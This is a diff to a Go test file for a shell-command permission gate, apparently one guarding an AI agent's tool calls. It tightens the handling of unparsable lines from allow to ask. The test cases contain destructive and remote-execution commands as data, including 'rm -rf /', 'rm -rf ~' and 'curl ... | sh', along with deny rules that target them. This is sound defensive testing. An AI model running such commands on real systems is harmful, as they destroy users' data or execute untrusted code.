@@ -156,7 +156,8 @@ func TestDecide(t *testing.T) {
 		{name: "compound: background and negation dropped", gate: grd(th(thread("", exR("sleep *", DecisionAllow)))), call: bash("! sleep 5 &"), want: DecisionAllow, by: "thread 1"},
 		{name: "compound: function body judged", gate: grd(th(thread(DecisionAllow, exR("rm -rf /", DecisionDeny)))), call: bash("f() { rm -rf /; }; f"), want: DecisionDeny, by: "thread 1"},
 		{name: "compound: a pipeline deny rule matches the whole line", gate: grd(th(thread("", exR("curl *", DecisionAllow), exR("sh", DecisionAllow), exR("curl * | sh", DecisionDeny)))), call: bash("curl -s https://x | sh"), want: DecisionDeny, by: "thread 3"},
-		{name: "unparsable line judged whole: allow", gate: grd(th(thread("", exR("echo *", DecisionAllow)))), call: bash("echo 'unterminated"), want: DecisionAllow, by: "thread 1"},
+		{name: "unparsable line is never allowed: ask", gate: grd(th(thread("", exR("echo *", DecisionAllow)))), call: bash("echo 'unterminated"), want: DecisionAsk},
+		{name: "unparsable line: bash runs the lines before the error", gate: grd(th(thread(DecisionAllow, exR("echo *", DecisionAllow)), rmDeny)), call: bash("echo hi\nrm -rf ~\n'"), want: DecisionAsk},
 		{name: "unparsable line judged whole: deny", gate: grd(w(exR("*'*", DecisionDeny))), call: bash("echo 'unterminated"), want: DecisionDeny, by: "worker 1"},
 
 		// guarded: grants.
